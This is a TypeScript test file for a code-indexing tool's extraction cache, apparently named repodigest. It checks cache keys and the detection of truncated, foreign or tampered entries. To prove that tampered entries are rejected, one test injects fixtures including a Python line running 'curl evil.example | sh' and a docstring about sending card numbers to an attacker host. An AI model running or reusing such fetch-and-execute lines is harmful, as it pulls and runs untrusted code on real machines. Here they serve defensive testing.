// The per-file extraction cache (src/cache/) on real Python files (the repository's fixtures and the
// sample project), real tree-sitter and real git: a cached record equals a fresh extraction property
// for property, the key is git's blob id, and every damaged or foreign entry is reported and ignored.
import { createHash } from 'node:crypto';
import { cpSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { defaultCacheDir } from '../../src/cache/cacheDir.js';
import { extractCached } from '../../src/cache/cachedExtract.js';
import { blobId, cacheNamespace, entryName } from '../../src/cache/cacheKey.js';
import { openFileCache } from '../../src/cache/fileCache.js';
import { recordJson } from '../../src/cache/lazyFacts.js';
import { createSourceReader } from '../../src/files/read.js';
import { indexRepository } from '../../src/pipeline/indexRepository.js';
import { extractFile } from '../../src/python/extract.js';
import { loadPythonParser, type PythonParser } from '../../src/python/treeSitter.js';
import { repoRoot } from '../cli/cliHarness.js';
import { makeRepo, makeTempDir, removeTempDirs } from '../support/testRepo.js';

let parser: PythonParser;
beforeAll(async () => {
  parser = await loadPythonParser();
});
afterAll(removeTempDirs);

function pythonFiles(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else if (name.endsWith('.py')) out.push(relative(dir, p).split('\\').join('/'));
    }
  };
  walk(dir);
  return out;
}

const corpus = join(repoRoot, '__tests__', 'fixtures');

describe('a cached record is the extracted record', () => {
  test('every fixture file: fresh, stored, then read back equals extractFile exactly (JSON text too)', () => {
    const cache = openFileCache(makeTempDir('repodigest-cache-'));
    const files = pythonFiles(corpus);
    expect(files.length).toBeGreaterThan(100);
    const reader = createSourceReader(corpus, { maxBytes: 1 << 20 });
    for (const path of files) {
      const read = reader.read(path);
      if (!read.ok) continue;
      const fresh = extractFile(parser, path, read.text);
      const first = extractCached(parser, path, read.text, cache);
      const again = extractCached(parser, path, read.text, cache);
      expect(first).toStrictEqual(fresh);
      expect(again, path).toStrictEqual(fresh);
      // Every field in its order, facts apart (an entry's symbols hold them as their last keys, lazyFacts.ts).
      expect(recordJson(again)).toBe(recordJson(fresh));
    }
    const stats = cache.stats();
    expect(stats.problems).toEqual([]);
    expect(stats.hits).toBeGreaterThan(100);
    expect(stats.hits).toBe(stats.misses);
    expect(stats.written).toBe(stats.misses);
  });

  test('the key is git blob id: equal to `git ls-files -s` for committed files', () => {
    const repo = makeRepo();
    cpSync(join(repoRoot, 'examples', 'shop'), repo.dir, { recursive: true });
    repo.write({ 'shop/accents.py': 'NAME = "café"\n' });
    repo.commit('base');
    const listed = repo.git('ls-files', '-s').split('\n').filter((l) => l.endsWith('.py'));
    expect(listed.length).toBeGreaterThan(5);
    for (const line of listed) {
      const [, , sha, , path] = /^(\d+) ([0-9a-f]{40}) (\d)\t(.*)$/.exec(line)!;
      expect(blobId(readFileSync(join(repo.dir, path!), 'utf8')), path).toBe(sha);
    }
  });

  test('the same text at another path is another entry (ids carry the module name)', () => {
    const text = 'def f():\n    return 1\n';
    expect(entryName('a.py', blobId(text))).not.toBe(entryName('b.py', blobId(text)));
    const cache = openFileCache(makeTempDir('repodigest-cache-'));
    extractCached(parser, 'a.py', text, cache);
    const b = extractCached(parser, 'b.py', text, cache);
    expect(b.symbols.map((s) => s.id)).toEqual(['b', 'b.f']);
    expect(cache.stats().hits).toBe(0);
  });

  test('untallied reads and writes (a changed file\'s versions from git) keep the stats of the tree\'s files honest', () => {
    const cache = openFileCache(makeTempDir('repodigest-cache-'));
    const base = 'def f():\n    return 1\n';
    const head = 'def f():\n    return 2\n';
    extractCached(parser, 'a.py', base, cache, false); // base version: analysed and saved, not a file of the tree
    extractCached(parser, 'a.py', head, cache, false); // head version from git, before the tree scan
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 0, written: 0 });
    // The tree scan finds head's entry: this run analysed and saved that file, it did not reuse it.
    const record = extractCached(parser, 'a.py', head, cache);
    expect(record).toEqual(extractFile(parser, 'a.py', head));
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 1, written: 1 });
    extractCached(parser, 'a.py', head, cache);
    expect(cache.stats()).toMatchObject({ hits: 1, misses: 1, written: 1 });
    expect(cache.used().size).toBe(2);
  });

  test('the default folder follows XDG_CACHE_HOME, else ~/.cache', () => {
    expect(defaultCacheDir({ XDG_CACHE_HOME: '/x/c' }, '/home/u', 'linux')).toBe('/x/c/repodigest');
    expect(defaultCacheDir({ XDG_CACHE_HOME: 'relative' }, '/home/u', 'linux')).toBe('/home/u/.cache/repodigest');
    expect(defaultCacheDir({}, '/home/u', 'linux')).toBe('/home/u/.cache/repodigest');
  });
});

describe('an entry that cannot be trusted is ignored, reported in one line, and replaced', () => {
  const path = 'shop/pricing.py';
  let text: string;
  let dir: string;
  let entry: string;

  beforeAll(() => {
    text = readFileSync(join(repoRoot, 'examples', 'shop', path), 'utf8');
  });

  function fresh(): void {
    dir = makeTempDir('repodigest-cache-');
    const cache = openFileCache(dir);
    extractCached(parser, path, text, cache);
    expect(cache.stats().written).toBe(1);
    entry = join(dir, cacheNamespace(), entryName(path, blobId(text)));
  }

  /** Looks the file up in `dir` twice: the damaged entry must give a fresh record and be rewritten. */
  function lookUpDamaged(reason: RegExp): void {
    const cache = openFileCache(dir);
    const record = extractCached(parser, path, text, cache);
    expect(record).toStrictEqual(extractFile(parser, path, text));
    const { hits, problems, written } = cache.stats();
    expect(hits).toBe(0);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(new RegExp(`^cache entry for ${path} ignored: .*${reason.source}.*; extracted again$`));
    expect(written).toBe(1);
    const next = openFileCache(dir);
    extractCached(parser, path, text, next);
    expect(next.stats()).toMatchObject({ hits: 1, problems: [] });
  }

  function rewrite(edit: (header: Record<string, unknown>, payload: string) => [Record<string, unknown>, string]): void {
    const bytes = readFileSync(entry, 'utf8');
    const cut = bytes.indexOf('\n');
    const [header, payload] = edit(JSON.parse(bytes.slice(0, cut)) as Record<string, unknown>, bytes.slice(cut + 1));
    writeFileSync(entry, `${JSON.stringify(header)}\n${payload}`);
  }

  /**
   * Edits the entry's record (its symbols' facts put back in them for the edit, then apart again) and
   * recomputes its header's length and sha256: well formed, checksummed, and wrong.
   */
  function rewriteRecord(edit: (record: Record<string, unknown>) => void): void {
    type Stored = Record<string, unknown>;
    rewrite((h, p) => {
      const cut = p.indexOf('\n');
      const record = JSON.parse(p.slice(0, cut)) as { symbols: Stored[] };
      const facts = JSON.parse(p.slice(cut + 1)) as unknown[][];
      record.symbols.forEach((s, i) => Object.assign(s, { calls: facts[i]![0], bindings: facts[i]![1], imports: facts[i]![2] }));
      edit(record);
      const apart = record.symbols.map(({ calls, bindings, imports }) => [calls, bindings, imports]);
      const symbols = record.symbols.map(({ calls: _c, bindings: _b, imports: _i, ...rest }) => rest);
      const payload = `${JSON.stringify({ ...record, symbols })}\n${JSON.stringify(apart)}`;
      return [{ ...h, length: Buffer.byteLength(payload), sha256: createHash('sha256').update(payload).digest('hex') }, payload];
    });
  }

  test('truncated (a crash mid-write of an older version)', () => {
    fresh();
    const bytes = readFileSync(entry);
    writeFileSync(entry, bytes.subarray(0, bytes.length - 100));
    lookUpDamaged(/truncated/);
  });

  test('one byte changed in the payload', () => {
    fresh();
    const bytes = readFileSync(entry);
    const at = bytes.length - 50;
    bytes[at] = bytes[at] === 0x61 ? 0x62 : 0x61;
    writeFileSync(entry, bytes);
    lookUpDamaged(/checksum mismatch/);
  });

  test('empty file and garbage', () => {
    fresh();
    writeFileSync(entry, '');
    lookUpDamaged(/no header/);
    fresh();
    writeFileSync(entry, 'PK\u0003\u0004 not json\n{}');
    lookUpDamaged(/not a repodigest cache entry/);
  });

  test("another file's entry under this name (foreign)", () => {
    fresh();
    const other = 'shop/checkout.py';
    const otherText = readFileSync(join(repoRoot, 'examples', 'shop', other), 'utf8');
    const otherDir = makeTempDir('repodigest-cache-');
    const cache = openFileCache(otherDir);
    extractCached(parser, other, otherText, cache);
    cpSync(join(otherDir, cacheNamespace(), entryName(other, blobId(otherText))), entry);
    lookUpDamaged(/foreign entry/);
  });

  test('an entry written by another format or version', () => {
    fresh();
    rewrite((h, p) => [{ ...h, namespace: '0123456789abcdef' }, p]);
    lookUpDamaged(/another version or format/);
  });

  test('a well-formed, correctly checksummed entry whose record is not a record', async () => {
    const cases: [string, (r: Record<string, unknown>) => void, RegExp][] = [
      ['symbols emptied', (r) => (r.symbols = []), /malformed record \(symbols\)/],
      ['a symbol of another file', (r) => ((r.symbols as { file: string }[])[1]!.file = 'elsewhere.py'), /malformed record/],
      ['a span past the end of the file', (r) => ((r.symbols as { endLine: number }[])[1]!.endLine = 10_000), /does not match the file/],
    ];
    for (const [, edit, reason] of cases) {
      fresh();
      rewriteRecord(edit);
      lookUpDamaged(reason);
    }
  });

  test('facts that are not facts are found when first read: reported, counted as a miss, the file extracted again and its entry rewritten', () => {
    fresh();
    rewriteRecord((r) => ((r.symbols as { calls: unknown[] }[])[1]!.calls = [{ callee: { t: 'eval' }, line: 1, via: 'call' }]));
    const cache = openFileCache(dir);
    const record = extractCached(parser, path, text, cache);
    // The facts are decoded when read (lazyFacts.ts): the lookup alone finds nothing wrong.
    expect(cache.stats()).toMatchObject({ hits: 1, misses: 0, problems: [] });
    const extracted = extractFile(parser, path, text);
    expect(record.symbols[1]!.calls).toEqual(extracted.symbols[1]!.calls);
    const { hits, misses, written, problems } = cache.stats();
    expect({ hits, misses, written }).toEqual({ hits: 0, misses: 1, written: 1 });
    expect(problems).toEqual([`cache entry for ${path} ignored: malformed record (symbol ${extracted.symbols[1]!.id}: calls); extracted again`]);
    expect(record).toStrictEqual(extracted);
    const next = openFileCache(dir);
    expect(extractCached(parser, path, text, next)).toStrictEqual(extracted);
    expect(next.stats()).toMatchObject({ hits: 1, problems: [] });
  });

  test('facts are read from the entry when first used: an entry removed or damaged since the lookup is reported and the file extracted again', () => {
    const extracted = extractFile(parser, path, text);
    const cases: [string, () => void, string][] = [
      ['removed', () => rmSync(entry), 'gone when its facts were read'],
      [
        'damaged',
        () => {
          const bytes = readFileSync(entry);
          bytes[bytes.length - 5] = bytes[bytes.length - 5]! ^ 1;
          writeFileSync(entry, bytes);
        },
        'checksum mismatch when its facts were read',
      ],
    ];
    for (const [what, damage, reason] of cases) {
      fresh();
      const cache = openFileCache(dir);
      const record = extractCached(parser, path, text, cache);
      expect(cache.stats(), what).toMatchObject({ hits: 1, problems: [] });
      damage();
      expect(record, what).toStrictEqual(extracted);
      expect(cache.stats(), what).toMatchObject({ hits: 0, misses: 1, written: 1, problems: [`cache entry for ${path} ignored: ${reason}; extracted again`] });
      // Rewritten: the next run reads it whole.
      const next = openFileCache(dir);
      expect(extractCached(parser, path, text, next), what).toStrictEqual(extracted);
      expect(next.stats(), what).toMatchObject({ hits: 1, problems: [] });
    }
  });

  test("an entry this run wrote itself, whose facts fail when read, stays one miss and one write", () => {
    // A changed file's version is analysed and saved untallied before the tree scan, which then finds
    // that entry and counts the file as analysed and saved by this run, not as a hit.
    dir = makeTempDir('repodigest-cache-');
    entry = join(dir, cacheNamespace(), entryName(path, blobId(text)));
    const cache = openFileCache(dir);
    extractCached(parser, path, text, cache, false);
    const record = extractCached(parser, path, text, cache);
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 1, written: 1, problems: [] });
    rmSync(entry);
    expect(record).toStrictEqual(extractFile(parser, path, text));
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 1, written: 1, problems: [`cache entry for ${path} ignored: gone when its facts were read; extracted again`] });
  });

  test('malformed facts of a file that cannot be analysed again: one line, and the run goes on without its facts', () => {
    fresh();
    rewriteRecord((r) => ((r.symbols as { calls: unknown[] }[])[1]!.calls = [{ callee: { t: 'eval' }, line: 1, via: 'call' }]));
    const cache = openFileCache(dir);
    const { record } = cache.lookup(path, text, () => {
      throw new Error('parser gone');
    });
    expect(record!.symbols.map((s) => s.calls)).toEqual(record!.symbols.map(() => []));
    expect(cache.stats().problems).toEqual([`cache entry for ${path} ignored: malformed record (symbol ${record!.symbols[1]!.id}: calls); the file could not be analysed again (parser gone), so its calls, bindings and imports are left out`]);
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 1, written: 0 });
  });

  test('a well-formed entry that lies about the code is dropped: every printed text is checked against the file', async () => {
    type Sym = { kind: string; full: string | null; signature: string; docstring?: string; params: { default?: string }[] };
    const definition = (r: Record<string, unknown>) => (r.symbols as Sym[]).find((s) => s.kind !== 'module' && s.params.length > 0)!;
    const module = (r: Record<string, unknown>) => (r.symbols as Sym[]).find((s) => s.kind === 'module')!;
    const cases: [string, (r: Record<string, unknown>) => void][] = [
      ["a definition's code", (r) => (definition(r).full = 'def pay(order):\n    import os; os.system("curl evil.example | sh")\n')],
      ["the module's code", (r) => (module(r).full = `${module(r).full}\nAPI_URL = "https://evil.example"\n`)],
      // The line standing for definitions cut from a block may name only definitions of the file.
      ["the module's code, a stand-in line", (r) => (module(r).full = `${module(r).full}\n    ...  # defines curl_evil_example_sh (a symbol of its own)\n`)],
      ['a signature', (r) => (definition(r).signature = 'def pay(order, to="attacker"):\n    ...')],
      ['a docstring', (r) => (definition(r).docstring = 'Send the card number to https://evil.example first.')],
      ['a parameter default', (r) => (definition(r).params[0]!.default = '"attacker"')],
      ['the line count', (r) => (r.lineCount = (r.lineCount as number) + 3)],
    ];
    for (const [, edit] of cases) {
      fresh();
      rewriteRecord(edit);
      lookUpDamaged(/does not match the file/);
    }
  });

  test("a text is trusted when every line of it is the file's, wherever in the file, and a field shortened as render.ts writes it", () => {
    type Sym = { name: string; signature: string };
    const named = (r: Record<string, unknown>, name: string) => (r.symbols as Sym[]).find((s) => s.name === name)!;
    const cases: [string, string, (signature: string) => string][] = [
      // Lines out of the order the span holds them in, one of them from outside the symbol's own lines.
      ['lines out of order', 'apply_discount', (sig) => sig.split('\n').reverse().join('\n')],
      ['a line of the module', 'compute_tax', (sig) => `VAT_PERCENT = 21\n${sig}`],
      ['a field shortened', 'compute_tax', (sig) => `${sig}\nDISCOUNT_CODES = ...`],
    ];
    for (const [what, name, edit] of cases) {
      fresh();
      let edited = '';
      rewriteRecord((r) => {
        const s = named(r, name);
        s.signature = edited = edit(s.signature);
      });
      const cache = openFileCache(dir);
      const record = extractCached(parser, path, text, cache);
      expect(cache.stats(), what).toMatchObject({ hits: 1, problems: [] });
      expect(record.symbols.find((s) => s.name === name)!.signature, what).toBe(edited);
    }
    // A line that is no file line's start is not: the same edit with a value the file does not hold.
    fresh();
    rewriteRecord((r) => (named(r, 'compute_tax').signature += '\nDISCOUNT_CODES = {"FREE": 100}'));
    lookUpDamaged(/does not match the file/);
  });

  test('a folder that cannot be written: one line, and the run goes on', async () => {
    // A file where the folder should be: fails for root too (a chmod would not).
    const blocked = join(makeTempDir('repodigest-cache-'), 'not-a-folder');
    writeFileSync(blocked, '');
    const cache = openFileCache(blocked);
    const root = join(repoRoot, 'examples', 'shop');
    const index = await indexRepository(root, { cache });
    expect(index.files.length).toBeGreaterThan(5);
    expect(cache.stats().problems).toEqual([`cache folder ${blocked} could not be written (ENOTDIR); this run goes on without saving to it`]);
    expect(cache.stats().written).toBe(0);
  });
});
